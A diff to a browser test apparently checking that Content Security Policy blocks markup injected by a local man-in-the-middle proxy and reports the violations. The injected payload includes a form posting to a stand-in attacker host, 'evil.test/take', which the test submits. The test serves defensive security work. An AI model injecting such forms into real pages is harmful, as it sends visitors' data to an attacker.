@@ -1,7 +1,8 @@
+import { createServer } from 'node:http';
+import { listen } from 'test-helpers/node';
 import { bootOf, remoteOf } from './boot.ts';
 import { askUpstream } from './caching-proxy.ts';
 import { expect, open, type Page, test } from './fixtures.ts';
-import { serve } from './second-host.ts';
 
 const policyOf = async (page: Page, address: string) => {
   const response = await page.request.get(address);
@@ -59,9 +60,9 @@ const smuggled = (remoteFile: string) => `
 <form id="away" action="https://evil.test/take"></form>
 `;
 
-/** A proxy for the site at another port of this machine, which adds markup to the end of each page. */
-async function startSmugglingProxy(site: string, markup: string) {
-  const server = await serve(async (requested, response) => {
+/** A proxy for the site at another port of this machine, which adds markup to the end of each page. @returns its address */
+async function startSmugglingProxy(site: string, markup: string): Promise<string> {
+  const server = createServer(async (requested, response) => {
     // Without compression, so that the page can be changed.
     requested.headers['accept-encoding'] = 'identity';
     const { status, headers, body } = await askUpstream(site, requested);
@@ -70,7 +71,7 @@ async function startSmugglingProxy(site: string, markup: string) {
     response.writeHead(status, rest);
     response.end(isPage ? body.toString().replace('</body>', () => `${markup}</body>`) : body);
   });
-  return { ...server, url: server.url.replace('127.0.0.1', 'localhost') };
+  return (await listen(server)).replace('127.0.0.1', 'localhost');
 }
 
 test('markup injected into a page does not run, and its CSP violations are reported', async ({
@@ -91,7 +92,7 @@ test('markup injected into a page does not run, and its CSP violations are repor
   });
   const site = new URL(page.url()).origin;
   const proxy = await startSmugglingProxy(site, smuggled(oldFile));
-  await open(page, `${proxy.url}/blog`);
+  await open(page, `${proxy}/blog`);
   await page.evaluate(() => (document.querySelector('#away') as HTMLFormElement).submit());
   const expected = [
     ['host', 'script-src-elem'],
@@ -125,9 +126,6 @@ test('markup injected into a page does not run, and its CSP violations are repor
     }, selector);
   expect(await smuggledIn('html')).toBe('');
   expect(await smuggledIn('#styled')).toBe('');
-  // The page may request its last scripts only now, and would not reach the proxy any more.
-  await page.close();
-  await proxy.stop();
 });
 
 /** Violations by remote and directive, from the page server's metrics. */
